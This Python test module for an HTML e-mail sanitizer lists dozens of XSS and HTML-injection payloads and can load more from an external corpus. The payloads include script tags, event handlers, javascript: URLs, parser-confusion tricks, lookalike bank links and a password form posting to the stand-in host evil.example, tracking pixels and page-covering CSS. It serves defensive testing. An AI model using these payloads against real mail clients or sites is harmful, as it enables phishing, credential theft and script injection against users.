"""Kinds of attacks in HTML mail, written for these tests; the public collection joins them where it is at hand."""

from __future__ import annotations

import json
import os
from pathlib import Path

CALL = "top.__ran=1,alert(1)"
OUT = "evil.example"

OWN = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//{OUT}/x.js></SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img/src/onerror={CALL}//>",
    f'<img src="x" alt="``onerror={CALL}">',
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>go</text></a></svg>",
    f"<svg><use href=//{OUT}/x.svg#x></use><image href=//{OUT}/p.png></image></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    f"<math href=javascript:{CALL}>go</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    f"<select><template><img src=x onerror={CALL}></template></select>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<!--><img src=x onerror={CALL}>--!><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><?php <img src=x onerror={CALL}> ?>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object><embed src=//{OUT}/x.swf>",
    f"<a href=javascript:{CALL}>go</a>",
    f"<a href='java\tscri\npt:{CALL}'>go</a>",
    f"<a href='&#106;avascript&colon;{CALL}'>go</a>",
    f"<a href='\x01javascript:{CALL}'>go</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>go</a>",
    f"<a href='vbscript:{CALL}'>go</a>",
    f"<a href='https://{OUT}/login'>https://www.mybank.example/</a>",
    f"<a href='//{OUT}'>mybank.example</a>",
    f"<a href='https://mybank.example@{OUT}/'>https://mybank.example</a>",
    f"<area href='javascript:{CALL}' shape=default><map name=m><area href=//{OUT}></map>",
    f"<form action=https://{OUT}/><input name=password><button>Sign in</button></form>",
    f"<button formaction=javascript:{CALL}>go</button><isindex action=javascript:{CALL}>",
    f"<base href=https://{OUT}/><a href=/x>go</a><img src=x.png>",
    f"<meta http-equiv=refresh content='0;url=https://{OUT}/'>",
    f"<link rel=stylesheet href=https://{OUT}/x.css><link rel=prefetch href=//{OUT}>",
    f"<style>@import 'https://{OUT}/x.css';body{{background:url(//{OUT}/p)}}</style>",
    f"<div style='background:url(https://{OUT}/p.png)'>x</div>",
    f"<div style='background:u\\72l(https://{OUT}/p.png)'>x</div>",
    f"<div style='width:expression({CALL});behavior:url(//{OUT}/x.htc);-moz-binding:url(//{OUT}/x.xml)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>cover</div>",
    "<div style='pos\\69tion:absolute;inset:0'>cover</div>",
    "<div style='margin-top:-500px;transform:translateY(-500px) scale(9)'>cover</div>",
    "<style>body{position:fixed}*{display:none!important}</style>",
    f"<img src=https://{OUT}/pixel.gif width=1 height=1>",
    f"<img srcset='https://{OUT}/a.png 1x' lowsrc=//{OUT}/b.png dynsrc=//{OUT}/c.png>",
    f"<input type=image src=https://{OUT}/p.png><video poster=//{OUT}/v.png src=//{OUT}/v.mp4></video>",
    f"<audio src=//{OUT}/a.mp3 autoplay></audio><source src=//{OUT}/s>",
    f"<table background=https://{OUT}/t.png><tr><td background=//{OUT}/u.png>x</td></tr></table>",
    f"<picture><source srcset=//{OUT}/p.webp><img src=//{OUT}/p.png></picture>",
    f"<bgsound src=//{OUT}/b.wav><frameset><frame src=//{OUT}></frameset>",
    "<a id=body name=forms>x</a><form name=getElementById></form><img name=cookie id=parentNode>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% include 'x' %} <%= 7*7 %>",
    f"<p onclick={CALL} onmouseover={CALL} onfocus={CALL} autofocus tabindex=1 contenteditable>x</p>",
    f"<details open ontoggle={CALL}><summary>x</summary></details><marquee onstart={CALL}>x</marquee>",
    f"<x is=y data-do=send hx-get=//{OUT} hx-on:load={CALL} data-letter-frame>x</x>",
    f"<dialog open><form method=dialog></form></dialog><portal src=//{OUT}></portal>",
    f"<table><td><svg><desc><td><title><script>{CALL}</script></title></desc></svg>",
    f"<p title='<img src=x onerror={CALL}>'>x</p><textarea></textarea><img src=x onerror={CALL}>",
    f"\ufeff<img\x00 src=x\x0conerror={CALL}>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<a href='https://{OUT}/?\u202egpj.exe'>photo</a>",
    f"<a ping=//{OUT} download href='blob:https://{OUT}/1'>x</a>",
]
"""Each tries to run, to load, to post, to lead elsewhere than shown, or to cover what is not its own."""


MOST = 120


def payloads(*, whole: bool = True) -> list[str]:
    """Ours, and of those of `GENJIN_CORPORA` a sample, or all where `GENJIN_TORTURE` is set and `whole`."""
    file = Path(os.environ.get("GENJIN_CORPORA", ""), "07-security", "xss_payloads.jsonl")
    if not file.exists():
        return OWN
    theirs = [json.loads(line)["payload"] for line in file.read_text(encoding="utf-8").splitlines()]
    step = 1 if whole and os.environ.get("GENJIN_TORTURE") else max(1, len(theirs) // MOST)
    return [*OWN, *theirs[::step]]
